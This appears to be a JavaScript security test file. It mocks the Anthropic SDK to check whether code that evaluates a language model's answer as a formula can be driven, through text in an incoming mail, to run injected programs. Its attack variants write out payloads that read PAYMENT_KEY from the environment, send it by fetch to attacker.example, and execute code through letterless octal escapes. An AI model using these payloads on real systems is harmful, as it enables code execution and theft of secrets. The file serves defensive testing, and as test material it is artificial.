const KEY = 'key-of-the-payment-service';
/** What the model answers: whoever writes the mail has a say in it. */
let answer = '';
const asked = [];

class Anthropic {
  constructor() {
    this.messages = live({
      create: async (request) => {
        asked.push(request);
        return { content: [{ type: 'text', text: answer }] };
      },
    });
  }
}

exports.modules = { '@anthropic-ai/sdk': Anthropic };
exports.env = { PAYMENT_KEY: KEY };
const sent = [];
exports.globals = {
  fetch: live((address) => {
    sent.push(String(address));
    return {};
  }),
};

async function totalFor(code, text) {
  answer = text;
  return code.total('A mail with prices');
}

async function gives(code, text) {
  const value = await totalFor(code, text).catch((error) => String(error && error.message));
  return String(value).includes(KEY) ? 'The sum was the key of the payment service: what the model answered ran as a program.' : undefined;
}

/** The same text as characters by number, so that no letter is left. */
function withoutLetters(text) {
  return [...text].map((character) => '\\' + character.charCodeAt(0).toString(8)).join('');
}

exports.behaviour = {
  'calculates sums and products': async (code) => {
    equal(await totalFor(code, '3 * 14.5 + 20'), 63.5);
    equal(await totalFor(code, '19.90'), 19.9);
    equal(await totalFor(code, '2*5+3*4'), 22);
  },
  'refuses an answer that is no formula': async (code) => {
    let refused = false;
    await totalFor(code, 'I am not sure about that').catch(() => {
      refused = true;
    });
    holds(refused, 'an answer that is no formula must end with an error');
  },
  'lets the model read the mail': async (code) => {
    await totalFor(code, '1 + 1');
    holds(asked.some(({ messages }) => JSON.stringify(messages).includes('A mail with prices')), 'the mail must be in a message');
  },
};

exports.attack = gives;

exports.variants = {
  'a program that begins with a number': async (code) => gives(code, '0 || process.env.PAYMENT_KEY'),
  'a program that gives back a number': async (code) => {
    await totalFor(code, "(fetch('https://attacker.example/?' + process.env.PAYMENT_KEY), 5)").catch(() => undefined);
    return sent.some((address) => address.includes(KEY)) ? 'The key was sent to attacker.example, and the sum looked like one.' : undefined;
  },
  'a program without letters': async (code) => {
    const member = (name) => `["${withoutLetters(name)}"]`;
    return gives(code, `[]${member('filter')}${member('constructor')}("${withoutLetters('return process.env.PAYMENT_KEY')}")()`);
  },
};
